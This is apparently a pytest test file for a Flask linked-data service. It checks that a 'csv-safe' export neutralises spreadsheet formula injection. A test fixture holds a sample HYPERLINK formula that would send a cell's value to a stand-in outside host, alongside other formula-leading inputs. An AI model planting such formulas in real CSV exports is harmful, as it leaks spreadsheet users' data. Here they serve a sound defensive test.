"""Tables for spreadsheets: wherever CSV is given, `csv-safe` is given too, and no cell of it is a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Generator, Iterator
from contextlib import closing
from http.client import HTTPException
from pathlib import Path
from typing import cast

import pytest
from flask import Flask

from allegata.budget import Budget, Lane
from allegata.engine import open_engine
from allegata.errors import Abandoned, WorkTimeout
from allegata.model.formats import CSV, CSV_RESULTS
from allegata.release.build import build
from allegata.settings import Settings
from allegata.web import create_app
from allegata.web.http.csv_tables import SAFE_CSV, guard, safe_choice, write_table
from allegata.web.http.views import main_rules
from http_client import fetch
from releases import BASE, HEAD, lay_out
from service import PATIENT, serve

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
CORPUS = f"""{HEAD}\
<{BASE}dataset> a dcat:Dataset ; dct:title "Formulas"@en ; dcat:version "1.0" ; dct:issued "2026-01-01"^^xsd:date ;
    void:uriSpace "{BASE}" .
<{BASE}actor/formula> a prov:Agent, schema:Organization ; rdfs:label '{FORMULA}'@en .
"""
#: An address of each view that gives CSV, by its rule.
ADDRESSES = {
    "/search": "/search?q=hyperlink&",
    "/what-if": "/what-if?",
    "/data/<path:path>": "/data/actor/formula?",
    "/questions/<name>": "/questions/affirmed-and-denied?",
    "/sparql": "/sparql?query=SELECT+%3Fname+%7B+%3Fs+%3Fp+%3Fname+%7D&",
}
DOCUMENT = f"<{BASE}x> a <https://w3id.org/allegata/ns#Stance> ."


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    folder = tmp_path_factory.mktemp("formulas")
    release = build(lay_out(folder / "corpus", {"corpus.ttl": CORPUS}), folder / "site", lambda _step: None)
    settings = Settings(site=folder / "site")
    with closing(open_engine(release.folder, settings)) as engine:
        yield create_app(settings, release, engine)


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]


def test_an_address_of_every_view_that_gives_csv_is_asked_here(app: Flask) -> None:
    """`/validate` takes a document, see below; the queries of a release are answered as those of the current one are."""
    found = {rule.rule for rule, declared in main_rules(app) if {CSV, CSV_RESULTS} & set(declared.formats)}
    leading = {rule for rule in found if "any(" in rule}  # these lead to /data
    assert found - leading == ADDRESSES.keys() | {"/validate", "/release/<version>/sparql", "/release/<version>/query/<digest>"}


@pytest.mark.parametrize("address", ADDRESSES.values())
def test_no_cell_of_a_safe_table_is_a_formula(app: Flask, address: str) -> None:
    client = app.test_client()
    plain, safe = (client.get(f"{address}format={word}") for word in ("csv", SAFE_CSV))
    assert (plain.status_code, safe.status_code, safe.mimetype) == (200, 200, "text/csv")
    assert cells(safe.data) == [f"'{cell}" if cell == FORMULA else cell for cell in cells(plain.data)]
    if "what-if" not in address and "questions" not in address:
        assert FORMULA in cells(plain.data)
        assert plain.headers["ETag"] != safe.headers["ETag"]


def test_findings_are_given_as_a_safe_table(app: Flask) -> None:
    client = app.test_client()
    replies = [client.post(f"/validate?format={word}", data=DOCUMENT, content_type="text/turtle") for word in ("csv", SAFE_CSV)]
    assert [reply.status_code for reply in replies] == [200, 200]
    assert cells(replies[0].data)[0] == "severity" and cells(replies[1].data) == cells(replies[0].data)


def test_a_safe_table_is_chosen_where_csv_is_offered_and_else_not() -> None:
    offered = safe_choice(SAFE_CSV, (CSV,))
    assert offered and offered.is_safe and offered.format is CSV
    assert safe_choice("csv", (CSV,)) is None and safe_choice(SAFE_CSV, ()) is None


@pytest.mark.parametrize("cell", ["=1+1", "+49 30", "-x", "@a", "\tx", "\r=1", "=" + "x" * 200_000])
def test_what_a_spreadsheet_would_take_for_a_formula_begins_with_an_apostrophe(cell: str) -> None:
    choice = safe_choice(SAFE_CSV, (CSV,))
    assert choice
    csv.field_size_limit(1 << 20)
    written = write_table([("a", "b"), (cell, None), ("-5.5", 1)], choice)
    assert cells(written.encode()) == ["a", "b", f"'{cell}", "", "-5.5", "1"]
    plain = io.StringIO(newline="")
    csv.writer(plain).writerows([("a", "b"), (cell, "")])
    assert cells(b"".join(guard([plain.getvalue().encode()], 300_000, Budget(60)))) == ["a", "b", f"'{cell}", ""]


def test_making_cells_safe_is_work_of_the_client_with_a_budget_of_its_own() -> None:
    ticks, lane = iter(range(1_000_000)), Lane(1, 1)
    budget = Budget(5.0, lane, "a", clock=lambda: next(ticks) / 100)
    rows = guard(iter([b"a,b\r\n"] * 10_000), 100, budget)
    for _ in range(100):
        assert next(rows) == b"a,b\r\n"
    assert lane.taken == 1, "what goes on takes a place"
    with pytest.raises(WorkTimeout) as caught:
        for _ in rows:
            pass
    assert caught.value.members == {"limit": "work_timeout", "allowed": 5.0}
    assert lane.taken == 0, "and gives it back"


def test_making_cells_safe_ends_when_its_client_leaves() -> None:
    ticks, lane, gone = iter(range(1_000_000)), Lane(1, 1), False
    rows = guard(iter([b"a,b\r\n"] * 10_000), 100, Budget(1e9, lane, "a", lambda: gone, clock=lambda: next(ticks) / 100))
    for _ in range(100):
        next(rows)
    gone = True
    with pytest.raises(Abandoned):
        for _ in rows:
            pass
    assert lane.taken == 0
    rows = guard(iter([b"a,b\r\n"] * 10_000), 100, Budget(1e9, lane, "a", clock=lambda: next(ticks) / 100))
    for _ in range(100):
        next(rows)
    assert lane.taken == 1
    cast(Generator[bytes, None, None], rows).close()
    assert lane.taken == 0, "also where nobody reads to the end"


@pytest.mark.server
def test_the_budget_of_safe_cells_is_that_of_a_client_of_the_service(site: Path) -> None:
    query = "SELECT%20%2A%20%7B%20%3Fs%20%3Fp%20%3Fo%20%7D"
    with serve(site, **(PATIENT | {"work_timeout": 0.1, "result_hold": 0.0})) as service:
        assert fetch(service.address, f"/sparql?query={query}&format=csv").status == 200
        with pytest.raises((OSError, HTTPException)):
            fetch(service.address, f"/sparql?query={query}&format=csv-safe")
